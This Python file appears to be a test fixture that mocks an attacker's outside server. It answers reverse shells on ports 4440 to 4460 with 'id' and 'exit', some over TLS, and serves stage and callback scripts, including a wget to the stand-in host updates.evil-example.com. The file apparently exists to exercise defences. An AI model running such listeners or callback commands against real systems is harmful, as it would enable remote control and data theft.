# SPDX-License-Identifier: Apache-2.0
"""Everybody outside: an attacker's server, and the world's. Prints "ready".

Ports 80 and 8000 answer HTTP (``/stage`` and ``/callback`` are scripts, ``/program`` the file PROGRAM);
shells that call ports 4440 to 4459 are told ``id`` and ``exit``, behind TLS on port 4460 with the certificate
PEM; all other ports given take a line and close.
Usage: outside.py PROGRAM PEM PORT...
"""

import socket
import ssl
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

SCRIPTS = {
    "/stage": b"hostname; id > /dev/null\n",
    "/callback": b"wget -q -O /dev/null http://updates.evil-example.com/done\n",
}
SHELLS = range(4440, 4460)
TLS = 4460


class Handler(BaseHTTPRequestHandler):
    """Answers any GET."""

    def do_GET(self) -> None:
        """A script, a program or a page."""
        body = SCRIPTS.get(self.path, b"page\n")
        if self.path.startswith("/program"):
            body = Path(sys.argv[1]).read_bytes()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_PUT = do_POST = do_GET  # noqa: N815 - the base class finds them by these names

    def log_message(self, *_: object) -> None:
        """Quiet."""


def shell(client: socket.socket) -> None:
    """Be an attacker with a shell, not for long."""
    with client:
        client.settimeout(5)
        try:
            client.sendall(b"id\n")
            client.recv(4096)
            client.sendall(b"exit\n")
            while client.recv(4096):
                pass
        except OSError:
            pass


def sink(client: socket.socket) -> None:
    """Take something and close."""
    with client:
        client.settimeout(1)
        try:
            client.recv(4096)
            client.sendall(b"ok\n")
        except OSError:
            pass


def behind_tls(client: socket.socket) -> None:
    """The same attacker, so that nobody reads along."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[2])
    client.settimeout(5)
    try:
        shell(context.wrap_socket(client, server_side=True))
    except OSError:
        client.close()


def listen(port: int) -> None:
    """Serve one port in threads."""
    server = socket.create_server(("0.0.0.0", port), backlog=256)
    answer = behind_tls if port == TLS else shell if port in SHELLS else sink
    while True:
        client, _ = server.accept()
        threading.Thread(target=answer, args=(client,), daemon=True).start()


def main() -> None:
    """Serve until killed."""
    for port in map(int, sys.argv[3:]):
        threading.Thread(target=listen, args=(port,), daemon=True).start()
    threading.Thread(target=ThreadingHTTPServer(("0.0.0.0", 80), Handler).serve_forever, daemon=True).start()
    server = ThreadingHTTPServer(("0.0.0.0", 8000), Handler)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    server.serve_forever()


if __name__ == "__main__":
    main()
